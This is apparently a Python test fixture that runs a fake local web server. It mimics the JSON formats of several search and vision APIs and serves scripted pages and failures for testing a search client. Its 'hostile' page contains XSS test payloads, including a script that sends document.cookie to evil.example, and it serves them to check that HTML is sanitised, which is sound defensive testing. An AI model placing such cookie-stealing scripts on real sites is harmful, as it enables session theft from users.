"""A fake web on 127.0.0.1: every search provider's real JSON format, pages, and scripted failures.

One `http.server` in a background thread answers, by route:
- SerpAPI        GET  /search.json?engine=google|google_lens&api_key=…   (organic_results / visual_matches)
- Serper         POST /search  with X-API-KEY                            (organic)
- Brave          GET  /res/v1/web/search  with X-Subscription-Token      (web.results)
- SearXNG        GET  /search?format=json                                (results; 403 without format=json)
- Cloud Vision   POST /v1/images:annotate?key=…                          (responses[0].webDetection)
- OpenAI chat    POST /v1/chat/completions                               (choices[0].message.content)
- pages          GET  /pages/<name>: scripted pages plus built-ins: huge (50 MB, no Content-Length),
                 huge-declared (Content-Length 50 MB), drip (one byte a second), pdf, hostile (scripts,
                 styles, event handlers), redirect?to=URL (302), slow?delay=S
Bad keys get each provider's documented error body. `script(route, Reply(...), ...)` queues one-off
replies (429 with Retry-After, 500, invalid JSON, delays) that are served before normal behaviour.

Use `with fake_web() as web:` (web.base_url, web.requests, web.hits), or `with searxng_server(hits) as
base_url:` when only a SearXNG endpoint is needed (the UI tests use that).
"""

from __future__ import annotations

import base64
import contextlib
import json
import ssl
import threading
import time
from collections import defaultdict, deque
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

KEY = "test-key"  # the API key every fake provider accepts


@dataclass(frozen=True)
class Hit:
    title: str
    url: str
    snippet: str = ""
    thumbnail: str = ""


@dataclass(frozen=True)
class Reply:
    """A scripted one-off reply. `body` may be bytes or a JSON-able object."""

    status: int = 200
    body: object = b""
    headers: tuple[tuple[str, str], ...] = ()
    delay_s: float = 0.0
    content_type: str = "application/json"


@dataclass(frozen=True)
class Page:
    body: bytes
    content_type: str = "text/html; charset=utf-8"
    status: int = 200
    delay_s: float = 0.0
    headers: tuple[tuple[str, str], ...] = ()


@dataclass(frozen=True)
class Seen:
    method: str
    path: str
    query: dict[str, list[str]]
    headers: dict[str, str]
    body: bytes
    at: float


HOSTILE_HTML = b"""<!doctype html><html><head><title>Hostile</title>
<style>body { background: url(javascript:alert(1)) } .x { color: red }</style>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<script type="text/javascript">alert('xss')</script></head>
<body onload="alert('onload')"><nav>Home | About</nav>
<article><h1>The Golden Gate Bridge</h1>
<p onclick="alert('click')">The Golden Gate Bridge is a suspension bridge spanning the Golden Gate strait, opened in 1937.</p>
<p>Its main span is 1,280 metres long and its towers rise 227 metres above the water.<img src=x onerror="alert('img')"></p>
<p>Escaped markup stays text: &lt;script&gt;alert('escaped')&lt;/script&gt; and &lt;b onmouseover=alert(2)&gt;bold&lt;/b&gt;.</p>
<iframe src="javascript:alert('frame')"></iframe><noscript><img src="https://evil.example/pixel"></noscript>
</article></body></html>"""


def article(title: str, sentences: int = 6) -> bytes:
    """A plain article page that trafilatura recognises as main content."""
    body = " ".join(f"{title} fact number {i} is stated in this paragraph for testing." for i in range(sentences))
    return f"<!doctype html><html><head><title>{title}</title></head><body><article><h1>{title}</h1><p>{body}</p></article></body></html>".encode()


@dataclass
class FakeWeb:
    base_url: str = ""
    hits: list[Hit] = field(default_factory=list)
    pages: dict[str, Page] = field(default_factory=dict)
    requests: list[Seen] = field(default_factory=list)
    summary_text: str = ""  # what the fake chat endpoint answers; empty = a summary naming the result titles

    def __post_init__(self) -> None:
        self._scripts: dict[str, deque[Reply]] = defaultdict(deque)
        self._lock = threading.Lock()

    def url(self, path: str) -> str:
        return self.base_url + path

    def script(self, route: str, *replies: Reply) -> None:
        """Serve these replies, in order, to the next requests on `route` (a path like "/search.json")."""
        with self._lock:
            self._scripts[route].extend(replies)

    def next_scripted(self, route: str) -> Reply | None:
        with self._lock:
            queue = self._scripts.get(route)
            return queue.popleft() if queue else None

    def seen(self, path_prefix: str) -> list[Seen]:
        with self._lock:
            return [r for r in self.requests if r.path.startswith(path_prefix)]

    def record(self, seen: Seen) -> None:
        with self._lock:
            self.requests.append(seen)

    def default_pages(self, n: int = 12, *, delay_s: float = 0.0) -> None:
        """Pages /pages/p1..pN and hits pointing at them (titles "Page 1".."Page N")."""
        self.hits = []
        for i in range(1, n + 1):
            self.pages[f"p{i}"] = Page(article(f"Page {i}"), delay_s=delay_s)
            self.hits.append(
                Hit(f"Page {i}", self.url(f"/pages/p{i}"), f"Snippet of page {i}.", self.url(f"/thumbs/p{i}.jpg"))
            )


class _Handler(BaseHTTPRequestHandler):
    web: FakeWeb  # set on the subclass made per server

    def log_message(self, format: str, *args: object) -> None:  # keep test output clean
        pass

    # --- plumbing -----------------------------------------------------------------------------------
    def _read_body(self) -> bytes:
        length = int(self.headers.get("Content-Length") or 0)
        return self.rfile.read(length) if length else b""

    def _send(
        self,
        status: int,
        body: object,
        *,
        content_type: str = "application/json",
        headers: Sequence[tuple[str, str]] = (),
    ) -> None:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        try:
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(data)))
            for name, value in headers:
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(data)
        except (BrokenPipeError, ConnectionResetError):
            pass

    def _handle(self, method: str) -> None:
        parts = urlsplit(self.path)
        query = parse_qs(parts.query)
        body = self._read_body() if method == "POST" else b""
        web = self.web
        web.record(
            Seen(method, parts.path, query, {k.lower(): v for k, v in self.headers.items()}, body, time.monotonic())
        )
        scripted = web.next_scripted(parts.path)
        if scripted is not None:
            if scripted.delay_s:
                time.sleep(scripted.delay_s)
            self._send(scripted.status, scripted.body, content_type=scripted.content_type, headers=scripted.headers)
            return
        route = (method, parts.path)
        if route == ("GET", "/search.json"):
            return self._serpapi(query)
        if route == ("POST", "/search"):
            return self._serper(body)
        if route == ("GET", "/search"):
            return self._searxng(query)
        if route == ("GET", "/res/v1/web/search"):
            return self._brave(query)
        if route == ("POST", "/v1/images:annotate"):
            return self._vision(query, body)
        if route == ("POST", "/v1/chat/completions"):
            return self._chat(body)
        if method == "GET" and parts.path.startswith("/pages/"):
            return self._page(parts.path[len("/pages/") :], query)
        self._send(404, b"not found", content_type="text/plain")

    def do_GET(self) -> None:
        self._handle("GET")

    def do_POST(self) -> None:
        self._handle("POST")

    # --- providers ----------------------------------------------------------------------------------
    def _serpapi(self, query: dict[str, list[str]]) -> None:
        if query.get("api_key", [""])[0] != KEY:
            return self._send(
                401, {"error": "Invalid API key. Your API key should be here: https://serpapi.com/manage-api-key"}
            )
        engine = query.get("engine", [""])[0]
        meta = {"search_metadata": {"id": "fake", "status": "Success"}, "search_parameters": {"engine": engine}}
        if not self.web.hits:
            return self._send(
                200,
                {
                    **meta,
                    "search_information": {"organic_results_state": "Fully empty"},
                    "error": "Google hasn't returned any results for this query.",
                },
            )
        if engine == "google_lens":
            matches = [
                {
                    "position": i,
                    "title": h.title,
                    "link": h.url,
                    "source": "example.org",
                    "thumbnail": h.thumbnail,
                    "image": h.thumbnail,
                }
                for i, h in enumerate(self.web.hits, 1)
            ]
            return self._send(200, {**meta, "visual_matches": matches})
        num = int(query.get("num", ["10"])[0])
        organic = [
            {
                "position": i,
                "title": h.title,
                "link": h.url,
                "displayed_link": h.url,
                "snippet": h.snippet,
                "source": "Example",
            }
            for i, h in enumerate(self.web.hits[:num], 1)
        ]
        self._send(200, {**meta, "organic_results": organic})

    def _serper(self, body: bytes) -> None:
        if self.headers.get("X-API-KEY") != KEY:
            return self._send(403, {"message": "Unauthorized.", "statusCode": 403})
        request = json.loads(body or b"{}")
        organic = [
            {"title": h.title, "link": h.url, "snippet": h.snippet, "position": i}
            for i, h in enumerate(self.web.hits[: request.get("num", 10)], 1)
        ]
        self._send(
            200, {"searchParameters": {"q": request.get("q"), "type": "search", "engine": "google"}, "organic": organic}
        )

    def _brave(self, query: dict[str, list[str]]) -> None:
        if self.headers.get("X-Subscription-Token") != KEY:
            error = {
                "id": "fake",
                "status": 401,
                "code": "SUBSCRIPTION_TOKEN_INVALID",
                "detail": "The provided subscription token is invalid.",
                "meta": {},
            }
            return self._send(401, {"type": "ErrorResponse", "error": error, "time": 0})
        count = int(query.get("count", ["20"])[0])
        results = [
            {
                "type": "search_result",
                "title": h.title,
                "url": h.url,
                "description": f"<strong>{h.snippet}</strong>",
                "thumbnail": {"src": h.thumbnail},
                "profile": {"name": "Example"},
            }
            for h in self.web.hits[:count]
        ]
        self._send(
            200,
            {
                "type": "search",
                "query": {"original": query.get("q", [""])[0]},
                "web": {"type": "search", "results": results},
            },
        )

    def _searxng(self, query: dict[str, list[str]]) -> None:
        if query.get("format", [""])[0] != "json":
            return self._send(403, b"<html><body>Forbidden</body></html>", content_type="text/html")
        results = [
            {
                "url": h.url,
                "title": h.title,
                "content": h.snippet,
                "engine": "duckduckgo",
                "engines": ["duckduckgo"],
                "score": 1.0,
                "category": "general",
                "thumbnail": h.thumbnail,
            }
            for h in self.web.hits
        ]
        self._send(
            200,
            {
                "query": query.get("q", [""])[0],
                "number_of_results": len(results),
                "results": results,
                "answers": [],
                "corrections": [],
                "infoboxes": [],
                "suggestions": [],
                "unresponsive_engines": [],
            },
        )

    def _vision(self, query: dict[str, list[str]], body: bytes) -> None:
        if query.get("key", [""])[0] != KEY:
            error = {
                "code": 400,
                "message": "API key not valid. Please pass a valid API key.",
                "status": "INVALID_ARGUMENT",
            }
            return self._send(400, {"error": error})
        request = json.loads(body)["requests"][0]
        try:
            base64.b64decode(request["image"]["content"], validate=True)
        except Exception:
            return self._send(200, {"responses": [{"error": {"code": 3, "message": "Bad image data."}}]})
        pages = [
            {"url": h.url, "pageTitle": f"<b>{h.title}</b>", "fullMatchingImages": [{"url": h.thumbnail}]}
            for h in self.web.hits
        ]
        web = {
            "webEntities": [{"entityId": "/m/0fake", "score": 0.92, "description": "Golden Gate Bridge"}],
            "pagesWithMatchingImages": pages,
            "visuallySimilarImages": [{"url": h.thumbnail} for h in self.web.hits],
            "bestGuessLabels": [{"label": "golden gate bridge", "languageCode": "en"}],
        }
        self._send(200, {"responses": [{"webDetection": web}]})

    def _chat(self, body: bytes) -> None:
        request = json.loads(body)
        prompt = request["messages"][-1]["content"]
        text = self.web.summary_text or "Summary: " + " ".join(
            line for line in prompt.splitlines() if line.startswith("[")
        )
        self._send(
            200,
            {
                "id": "chatcmpl-fake",
                "object": "chat.completion",
                "model": request.get("model"),
                "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}],
            },
        )

    # --- pages --------------------------------------------------------------------------------------
    def _page(self, name: str, query: dict[str, list[str]]) -> None:
        if name == "huge":
            return self._stream_huge(declared=False)
        if name == "huge-declared":
            return self._stream_huge(declared=True)
        if name == "drip":
            return self._drip()
        if name == "pdf":
            return self._send(200, b"%PDF-1.4\n" + b"0" * 1000, content_type="application/pdf")
        if name == "hostile":
            return self._send(200, HOSTILE_HTML, content_type="text/html; charset=utf-8")
        if name == "redirect":
            return self._send(302, b"", content_type="text/plain", headers=[("Location", query.get("to", ["/"])[0])])
        if name == "slow":
            time.sleep(float(query.get("delay", ["1"])[0]))
            return self._send(200, article("Slow page"), content_type="text/html")
        page = self.web.pages.get(name)
        if page is None:
            return self._send(404, b"<html><body>Not found</body></html>", content_type="text/html")
        if page.delay_s:
            time.sleep(page.delay_s)
        self._send(page.status, page.body, content_type=page.content_type, headers=page.headers)

    def _stream_huge(self, *, declared: bool) -> None:
        chunk = b"<p>" + b"x" * 65_530 + b"</p>"
        try:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            if declared:
                self.send_header("Content-Length", str(50 * 1024 * 1024))
            self.end_headers()
            for _ in range(50 * 1024 * 1024 // len(chunk)):
                self.wfile.write(chunk)
        except (BrokenPipeError, ConnectionResetError, OSError):
            pass  # the client stopped reading at its size cap, as it should

    def _drip(self) -> None:
        try:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            for _ in range(600):
                self.wfile.write(b"x")
                self.wfile.flush()
                time.sleep(1.0)
        except (BrokenPipeError, ConnectionResetError, OSError):
            pass


class _Server(ThreadingHTTPServer):
    daemon_threads = True  # a dripping handler must not keep the test process alive
    allow_reuse_address = True


@contextlib.contextmanager
def fake_web(hits: Sequence[Hit] | None = None, *, tls: ssl.SSLContext | None = None) -> Iterator[FakeWeb]:
    """Start the fake web on a free 127.0.0.1 port; default pages p1..p12 unless `hits` are given.

    With `tls` (a server context, e.g. tests/servers/tls.py's certificate for localhost) it speaks HTTPS and
    its base URL is https://localhost:PORT."""
    web = FakeWeb()
    handler = type("Handler", (_Handler,), {"web": web})
    server = _Server(("127.0.0.1", 0), handler)
    if tls is not None:
        server.socket = tls.wrap_socket(server.socket, server_side=True)
    scheme, host = ("https", "localhost") if tls is not None else ("http", "127.0.0.1")
    web.base_url = f"{scheme}://{host}:{server.server_address[1]}"
    if hits is None:
        web.default_pages()
    else:
        web.hits = list(hits)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, name="fake-web", daemon=True)
    thread.start()
    try:
        yield web
    finally:
        server.shutdown()
        server.server_close()


@contextlib.contextmanager
def searxng_server(hits: Sequence[Hit] | None = None) -> Iterator[str]:
    """A SearXNG-format endpoint; yields its base URL (use as SEARXNG_BASE_URL / --searxng-base-url)."""
    with fake_web(hits) as web:
        yield web.base_url
